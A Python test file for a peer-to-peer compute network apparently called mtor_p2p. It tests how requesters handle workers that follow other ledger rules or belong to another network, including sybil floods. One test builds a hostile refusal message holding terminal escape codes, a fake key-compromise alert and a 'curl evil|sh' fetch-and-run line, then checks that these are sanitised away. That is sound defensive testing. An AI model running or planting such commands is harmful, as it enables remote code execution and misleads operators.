"""Compute splits by ledger rules as the ledger does (mtor_p2p.ledger.names.LEDGER_RULES).

Peers of other rules do not hear each other's ledgers, so a receipt between them would be
paid in two ledgers that never meet. A requester therefore schedules only workers whose
capacity records state its rules, and says why it passed the others over; a worker refuses
a run from a requester of other rules (tests/test_worker_attacks.py). Real nodes on memnet
under virtual time (tests/test_virtual_time.py's cluster).
"""

from __future__ import annotations

import dataclasses
import hashlib
from collections import OrderedDict
from collections.abc import Callable
from typing import Any

import pytest
import trio
import trio.testing

from mtor_p2p.capacity.record import CapacityRecord
from mtor_p2p.capacity.view import CapacityQuery
from mtor_p2p.compute import worker as worker_module
from mtor_p2p.compute.protocol import PROTOCOL_RUN
from mtor_p2p.compute.scheduler import (
    MAX_OTHER_NETWORK_PEERS,
    OTHER_NETWORK_MEMORY_S,
    OTHER_NETWORK_OUT,
    JobFailed,
    Scheduler,
)
from mtor_p2p.compute.worker import NETWORK_REFUSED, RULES_REFUSED
from mtor_p2p.identity import Identity
from mtor_p2p.insight import peers_in_view, peers_view
from mtor_p2p.ledger.names import LEDGER_RULES
from mtor_p2p.ledger.service import OTHER_NETWORK, SYNC_PROTOCOL
from mtor_p2p.network import RemoteError
from mtor_p2p.node import Node
from tests.conftest import make_record
from tests.products import assert_product_close
from tests.test_virtual_time import (  # noqa: F401 (trio_seed: a fixture, autouse there)
    cluster,
    shard_operands,
    trio_seed,
)


async def follow_rules_1(node: Node, *, seen_by: Node) -> None:
    """Make ``node`` announce records of rules 1 (as a version before rules 2 would state
    them), and wait until ``seen_by`` holds one."""
    build = node.capacity._build

    def as_rules_1(*args: Any, **kwargs: Any) -> CapacityRecord:
        return dataclasses.replace(build(*args, **kwargs), ledger_rules=1)

    node.capacity._build = as_rules_1  # type: ignore[method-assign]
    await node.capacity.announce()

    def seen_rules() -> int:
        live = seen_by.capacity.view.live(seen_by.clock.now())
        return next(r.ledger_rules for r in live if r.peer_id == node.peer_id)

    with trio.fail_after(30):
        while seen_rules() != 1:
            await trio.sleep(0.1)


async def job_beside_a_refuser(
    refusal: Callable[[str | None], str],
) -> tuple[Node, Node, Node, Any, list[str]]:
    """An 8-shard job on w1 and a third worker that answers every run with
    ``refusal(the requester's network)``: w1, the requester, the refuser, the job's result
    (checked against NumPy) and who asked the refuser."""
    asked: list[str] = []
    async with cluster(["w1", "requester", "refuser"]) as c:
        w1 = await c.start("w1", "WEU")
        requester = await c.start("requester", "WEU", serve=False)
        refuser = await c.start("refuser", "WEU")
        await c.settle()
        words = refusal(requester.scheduler.network_id)

        async def refuse(sender: str, request: bytes) -> bytes:
            asked.append(sender)
            raise RemoteError(words)

        c.world.network(refuser.peer_id).handle(PROTOCOL_RUN, refuse)
        operands = shard_operands()
        result = await requester.submit("matmul", operands, shards=8)
        assert_product_close(result.output, operands["a"] @ operands["b"])
    return w1, requester, refuser, result, asked


async def test_a_worker_of_other_ledger_rules_gets_no_shards(
    autojump_clock: trio.testing.MockClock,
) -> None:
    """A worker that states rules 1 (as every version before schema-3 records does: its
    records read as rules 1, tests/test_records.py) stays in the view but gets no shard; the
    plan note names the rules, and the default capacity query leaves it out."""
    async with cluster(["w1", "requester", "old"]) as c:
        w1 = await c.start("w1", "WEU")
        requester = await c.start("requester", "WEU", serve=False)
        old = await c.start("old", "WEU")
        await c.settle()
        await follow_rules_1(old, seen_by=requester)
        operands = shard_operands()
        result = await requester.submit("matmul", operands, shards=4)
        assert_product_close(result.output, operands["a"] @ operands["b"])
        now = requester.clock.now()
        found = {r.peer_id for r in requester.capacity.view.query(CapacityQuery(), now)}
        everyone = CapacityQuery(ledger_rules=None)
        found_all = {r.peer_id for r in requester.capacity.view.query(everyone, now)}
        # The operator's views show it, with its rules, and count it apart.
        shown = {entry["peer_id"]: entry for entry in peers_view(requester)}
        counted = peers_in_view(requester)
        # `peers` (the control API's /v1/peers) lists only peers of this node's rules and
        # counts the others, with the same filters.
        _, listed = await requester._route_peers({}, None)
        _, in_weu = await requester._route_peers({"region": "WEU"}, None)
        _, elsewhere = await requester._route_peers({"region": "JPE"}, None)

    note = requester.scheduler.plans[-1]
    assert note.chosen == (w1.peer_id,)
    category, detail = note.passed_over[old.peer_id]
    assert category == "ledger rules"
    assert f"follows ledger rules 1, this node {LEDGER_RULES}" in detail
    assert old.worker.stats.shards_run == 0 and w1.worker.stats.shards_run == 4
    assert old.peer_id not in found and w1.peer_id in found
    # The job's summary counts it apart from the workers that left the job (whose list a
    # flood of records of other rules must not crowd).
    assert old.peer_id not in result.workers_out
    assert result.summary()["other_ledger_rules"] == {"workers": 1, "rules": [1]}
    assert old.peer_id in found_all
    assert shown[old.peer_id]["ledger_rules"] == 1 and shown[old.peer_id]["other_ledger_rules"]
    assert not shown[w1.peer_id]["other_ledger_rules"]
    assert shown[w1.peer_id]["ledger_rules"] == LEDGER_RULES
    assert counted["total"] == 2 and counted["other_ledger_rules"] == 1
    assert old.peer_id not in {p["peer_id"] for p in listed["peers"]}
    assert w1.peer_id in {p["peer_id"] for p in listed["peers"]}
    assert listed["other_ledger_rules"] == in_weu["other_ledger_rules"] == 1
    assert elsewhere["other_ledger_rules"] == 0


async def test_a_job_with_only_workers_of_other_rules_fails_saying_so(
    autojump_clock: trio.testing.MockClock,
) -> None:
    """What a node sees first after upgrading ahead of its network: the failure names the
    workers of other rules, not only "no worker serves"."""
    async with cluster(["old", "requester"]) as c:
        old = await c.start("old", "WEU")
        requester = await c.start("requester", "WEU", serve=False)
        await c.settle()
        await follow_rules_1(old, seen_by=requester)
        with pytest.raises(JobFailed) as failed:
            await requester.submit("matmul", shard_operands(), shards=2)
    message = str(failed.value)
    assert "no worker in the capacity view serves 'matmul'" in message
    assert f"1 worker(s) follow other ledger rules (1; this node {LEDGER_RULES})" in message


async def test_a_worker_that_refuses_our_rules_is_left_without_blame(
    autojump_clock: trio.testing.MockClock,
) -> None:
    """A worker restarted as a version of newer rules: its new record (a schema this
    version does not read) never replaced the old one here, so it is asked, and refuses. The
    job leaves it and runs on the others; the refusal is not a failure on its record."""
    refusal = (
        f"{RULES_REFUSED}: this worker follows ledger rules {LEDGER_RULES + 1}, the "
        f"requester {LEDGER_RULES}; one of them must upgrade MTOR"
    )
    w1, requester, newer, result, asked = await job_beside_a_refuser(lambda ours: refusal)
    assert asked and set(asked) == {requester.peer_id}
    assert {shard.worker for shard in result.shards} == {w1.peer_id}
    standing = requester.peers.get(newer.peer_id)
    assert standing.failed == 0 and standing.in_a_row == 0


async def test_workers_of_another_network_refuse_and_are_left_without_blame(
    autojump_clock: trio.testing.MockClock,
) -> None:
    """A worker whose ledger is another network's (here its network ID changed, as a node
    started with another genesis has) refuses this requester's runs; the job leaves it
    without blame and runs on the others. With only such workers the job fails naming the
    network and the flag (a new user's walkthrough: a node without the devnet's genesis was
    served by the devnet's workers, in debt in a ledger it never saw)."""
    async with cluster(["w1", "requester", "other"]) as c:
        w1 = await c.start("w1", "WEU")
        requester = await c.start("requester", "WEU", serve=False)
        other = await c.start("other", "WEU")
        await c.settle()
        assert requester.scheduler.network_id == other.worker.network_id  # one genesis
        other.worker.network_id = "f" * 16
        operands = shard_operands()
        result = await requester.submit("matmul", operands, shards=8)
        assert_product_close(result.output, operands["a"] @ operands["b"])
        assert {shard.worker for shard in result.shards} == {w1.peer_id}
        standing = requester.peers.get(other.peer_id)
        assert standing.failed == 0 and standing.in_a_row == 0
        summary = result.summary()
        assert summary["workers_out_count"] == 1 and summary["workers_out_demoted"] == 0
        w1.worker.network_id = "f" * 16
        with pytest.raises(JobFailed) as failed:
            await requester.submit("matmul", operands, shards=2)
    message = str(failed.value)
    assert "2 of another network" in message, message
    assert f"a worker's ledger has genesis {'f' * 16}…" in message
    # Both networks' names too (the worker's by its word): a new user could not tell which
    # network either side followed from genesis prefixes alone.
    # Here both are named alike, as every devnet is: the name is said to be no identity.
    name = requester.scheduler.network_name
    assert name and f'(its network also called "{name}", by its word: a network is its ' in message
    assert f'this node\'s {requester.scheduler.network_id}… ("{name}")' in message
    assert "--genesis FILE" in message
    # And where to find that file (an open item of the walkthrough of joining without it).
    assert "keeps its genesis as genesis.json in its data directory" in message


def of_another_network_everywhere(c: Any, node: Node, monkeypatch: pytest.MonkeyPatch) -> None:
    """Make ``node`` another network's peer as a requester sees one: its worker refuses runs
    (another network ID) and its ledger refuses syncs (another genesis)."""
    node.worker.network_id = "f" * 16

    async def refuse_sync(sender: str, request: bytes) -> bytes:
        raise RemoteError(f"{OTHER_NETWORK}: genesis hashes differ")

    c.world.network(node.peer_id).handle(SYNC_PROTOCOL, refuse_sync)


def counted_network_refusals(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every refusal of a run for another network, by any worker, from now on."""
    refusals: list[str] = []
    check = worker_module._check_network

    def counted(header: dict[str, Any], mine: str | None, name: str | None = None) -> None:
        try:
            check(header, mine, name)
        except RemoteError:
            refusals.append(str(mine))
            raise

    monkeypatch.setattr(worker_module, "_check_network", counted)
    return refusals


async def test_a_worker_of_another_network_is_not_asked_again_while_connected(
    autojump_clock: trio.testing.MockClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker that refused this requester's network is left out of later jobs' plans (a
    plan note says why, in its own category) and is not asked again, nor sent operands: it
    is asked again after OTHER_NETWORK_MEMORY_S, or once it was found disconnected (a worker
    restarted with this network's genesis, and connected again before the next job: a
    review found it left out until its time was up when only plans checked the connection)."""
    refusals = counted_network_refusals(monkeypatch)
    operands = shard_operands()
    async with cluster(["w1", "requester", "other"]) as c:
        w1 = await c.start("w1", "WEU")
        requester = await c.start("requester", "WEU", serve=False)
        other = await c.start("other", "WEU")
        await c.settle()
        of_another_network_everywhere(c, other, monkeypatch)

        async def job() -> set[str]:
            result = await requester.submit("matmul", operands, shards=8)
            assert_product_close(result.output, operands["a"] @ operands["b"])
            return {shard.worker for shard in result.shards}

        assert await job() == {w1.peer_id}
        assert len(refusals) == 1
        for _ in range(3):
            await trio.sleep(20)  # ledger syncs meanwhile (refused: another genesis)
            assert await job() == {w1.peer_id}
        assert len(refusals) == 1  # not asked again
        # `peers` lists it, marked (a new user saw it unmarked while every job failed).
        _, listed = await requester._route_peers({}, None)
        marked = {p["peer_id"]: p["other_network"] for p in listed["peers"]}
        assert marked[other.peer_id] and not marked[w1.peer_id]
        assert listed["other_network"] == 1
        category, detail = requester.scheduler.plans[-1].passed_over[other.peer_id]
        assert category == "network"
        assert f"a worker's ledger has genesis {'f' * 16}…" in detail
        assert requester.peers.get(other.peer_id).failed == 0

        # Its time is up: asked again, though still connected.
        await trio.sleep(OTHER_NETWORK_MEMORY_S)
        assert other.peer_id in requester.network.connected_peers()
        assert await job() == {w1.peer_id}
        assert len(refusals) == 2
        assert await job() == {w1.peer_id}
        assert len(refusals) == 2

        # Restarted with this network's genesis: down for a few seconds, and connected again
        # before the next job. It is asked, and works.
        c.crash("other")
        await trio.sleep(3)
        other = await c.start("other", "WEU", restart=True)
        with trio.fail_after(30):
            while other.peer_id not in requester.network.connected_peers():
                await trio.sleep(0.1)
        assert other.peer_id not in requester.scheduler.other_network
        assert await job() == {w1.peer_id, other.peer_id}
        assert len(refusals) == 2


async def test_a_refuser_that_answers_our_ledger_sync_is_still_left_out(
    autojump_clock: trio.testing.MockClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker that refuses this requester's runs as another network's while it answers
    the requester's ledger syncs (any peer can answer one, with nothing) is still left out:
    a successful sync is no proof of its network (a review: taken as one, such a worker was
    asked, and sent operands, in every job). Challenges pass it by until its time is up, and
    then it is forgotten without any job."""
    refusals = counted_network_refusals(monkeypatch)
    operands = shard_operands()
    async with cluster(["w1", "requester", "other"]) as c:
        await c.start("w1", "WEU")
        requester = await c.start("requester", "WEU", serve=False)
        other = await c.start("other", "WEU")
        await c.settle()
        other.worker.network_id = "f" * 16  # its worker says so; its ledger syncs with ours
        for _ in range(4):
            await requester.submit("matmul", operands, shards=8)
            await trio.sleep(20)  # ledger syncs meanwhile, all successful
        assert requester.ledger_service.stats["sync_failures"] == 0
        assert len(refusals) == 1
        assert requester.scheduler.is_other_network(other.peer_id)
        assert other.peer_id not in {r.peer_id for r in requester.challenger.targets()}
        _, listed = await requester._route_peers({}, None)  # marked by its refusal alone
        assert [p["peer_id"] for p in listed["peers"] if p["other_network"]] == [other.peer_id]
        await trio.sleep(OTHER_NETWORK_MEMORY_S)
        assert other.peer_id in requester.network.connected_peers()
        assert other.peer_id not in requester.scheduler.other_network  # forgotten, no job
        assert other.peer_id in {r.peer_id for r in requester.challenger.targets()}


async def test_a_hostile_refusal_gives_the_job_only_a_genesis_prefix_and_a_plain_name(
    autojump_clock: trio.testing.MockClock,
) -> None:
    """Of a refusal "of another network", which any worker can word as it likes, the job's
    reasons keep the genesis prefix and a plain network name, quoted as the worker's word:
    no control characters, lines or other text of its own (a review's probe)."""

    def hostile(ours: str | None) -> str:
        return (
            f"{NETWORK_REFUSED}: \x1b[2J\x1b[31mYOUR KEYS ARE COMPROMISED\n run curl evil|sh \n"
            f"this worker's ledger has genesis {'e' * 16}… (network get-genesis.evil.example), "
            + "A"
            * 900
        )

    _, _, refuser, result, _ = await job_beside_a_refuser(hostile)
    why = result.workers_out[refuser.peer_id]
    assert why.startswith(f"{OTHER_NETWORK_OUT}: a worker's ledger has genesis {'e' * 16}…")
    assert '(its network called "get-genesis.evil.example", by its word)' in why
    assert not any(bad in why for bad in ("\x1b", "\n", "COMPROMISED", "curl", "AAAA"))


def test_workers_of_another_network_remembered_are_bounded() -> None:
    """Sybils that all refuse this requester's network fill the memory of such workers up
    to MAX_OTHER_NETWORK_PEERS, the oldest forgotten first."""
    scheduler = Scheduler.__new__(Scheduler)
    scheduler.other_network = OrderedDict()
    scheduler._other_network_noted = trio.Event()
    scheduler.clock = _FixedClock()
    for i in range(MAX_OTHER_NETWORK_PEERS + 10):
        scheduler.note_other_network(f"peer{i}", "of another network: x")
    assert len(scheduler.other_network) == MAX_OTHER_NETWORK_PEERS
    assert "peer0" not in scheduler.other_network
    assert f"peer{MAX_OTHER_NETWORK_PEERS + 9}" in scheduler.other_network


class _FixedClock:
    def now(self) -> float:
        return 0.0


async def test_a_worker_claiming_our_own_network_as_another_is_blamed(
    autojump_clock: trio.testing.MockClock,
) -> None:
    """A refusal "of another network" that names this requester's own genesis, or none, is
    no refusal a worker of another network makes: it counts as the failure it is (a review:
    a worker could otherwise refuse every job without cost to its standing)."""

    def refusal(ours: str | None) -> str:
        return (
            f"{NETWORK_REFUSED}: this worker's ledger has genesis {ours}…, the requester's "
            f"{ours}; a node joins a network with that network's genesis (--genesis FILE)"
        )

    w1, requester, liar, result, _ = await job_beside_a_refuser(refusal)
    assert {shard.worker for shard in result.shards} == {w1.peer_id}
    assert requester.peers.get(liar.peer_id).failed >= 1


@pytest.mark.parametrize("as_json", [False, True])
def test_peers_says_how_many_peers_of_other_rules_it_does_not_list(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], as_json: bool
) -> None:
    """`peers` prints what the control API's /v1/peers counts (the route: the test above):
    one line on stderr, so that `--json` output stays a list."""
    from mtor_p2p import cli

    class Answer:
        def call(self, method: str, path: str) -> dict[str, Any]:
            return {"peers": [], "other_ledger_rules": 3}

    monkeypatch.setattr(cli, "_client", lambda args: Answer())
    args = cli.build_parser().parse_args(["peers", *(["--json"] if as_json else [])])
    assert cli.cmd_peers(args) == cli.EXIT_OK
    out, err = capsys.readouterr()
    assert "3 peer(s) of other ledger rules not shown" in err
    assert "status --json lists them under insight.peers" in err
    if as_json:
        assert out.strip() == "[]"


async def test_a_flood_of_records_of_other_rules_is_counted_not_listed(
    autojump_clock: trio.testing.MockClock,
) -> None:
    """Records anyone can sign: 300 workers of other rules (each of its own) in the view
    neither crowd the job's workers out (whose summary shows 20) nor its failure text; the
    summary counts them and shows a few of their rules."""
    async with cluster(["w1", "requester"]) as c:
        w1 = await c.start("w1", "WEU")
        requester = await c.start("requester", "WEU", serve=False)
        await c.settle()
        now = requester.clock.now()
        for i in range(300):
            sybil = Identity(hashlib.sha256(f"rules sybil {i}".encode()).digest())
            record = make_record(
                sybil, now=now, kernels=("matmul",), ledger_rules=LEDGER_RULES + 1 + i
            )
            assert requester.capacity.view.offer(record, now)
        operands = shard_operands()
        result = await requester.submit("matmul", operands, shards=4)
    summary = result.summary()
    assert summary["workers_out_count"] == 0 and summary["workers"] == [w1.peer_id]
    other = summary["other_ledger_rules"]
    assert other["workers"] == 300 and len(other["rules"]) == 4
